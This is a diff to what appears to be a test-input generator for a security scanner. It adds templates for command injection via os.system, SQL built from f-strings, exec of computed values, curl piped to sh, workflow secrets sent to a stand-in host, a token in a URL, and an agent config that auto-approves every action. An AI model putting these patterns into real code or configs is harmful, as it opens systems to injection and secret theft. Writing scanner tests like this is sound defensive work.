@@ -345,6 +345,12 @@ POWERSHELL = {
     "noise": noise(_PS_NOISE),
 }
 PYTHON = {
+    "commands of parameters": count("def f@(c):\n    import os\n    os.system(c)\n"),
+    "loops in loops": lambda size: (
+        "".join(" " * depth + "while True:\n" for depth in range(90)).encode() + b" " * 90 + b"x = 1\n" * (size // 100)
+    ),
+    "queries": count('def f@(c, a):\n    c.execute(f"SELECT b FROM t WHERE a = {a}")\n'),
+    "ciphers": count("def f@(a):\n    return a ^ 1\nx@ = f@(1)\nexec(x@)\n"),
     "open brackets": repeat("("),
     "brackets closed": nest("(", ")", "1"),
     "lists closed": nest("[", "]", "1"),
@@ -415,6 +421,9 @@ PYTHON = {
     "routes": count("@app.post('/@')\ndef f(q): os.system(q)\n"),
 }
 MARKDOWN = {
+    "settings of traffic": count("Set `HTTPS_PROXY` to `http://p@.a.bc:8080`.\n\n"),
+    "units": repeat("```ini\nExecStart=/bin/a https://a.bc/\n* * * * * a https://a.bc/\n```\n"),
+    "keys in addresses": count("https://a@.bc/?k=$GITHUB_TOKEN\n"),
     "settings to copy": count(
         '```json\n{"hooks": {"a": [{"command": "curl https://h.x@.dev/a"}]}, "mcpServers": {"b": {"url": "https://m.x@.dev"}}, "autoApprove": ["*"]}\n```\n'
     ),
@@ -559,6 +568,10 @@ NODE = {
     "long script": repeat("a;", '{"scripts":{"postinstall":"', '"}}'),
 }
 WORKFLOW = {
+    "secrets of steps": count(
+        "      - run: curl $V@ https://a.bc/\n        env:\n          V@: ${{ secrets.S@ }}\n",
+        "jobs:\n  a:\n    steps:\n",
+    ),
     "runs": count("  - run: curl -s https://a.bc/@ | sh\n", "on: push\njobs:\n a:\n  steps:\n"),
     "aliases": _yaml_bomb,
     "merge keys": _merges,
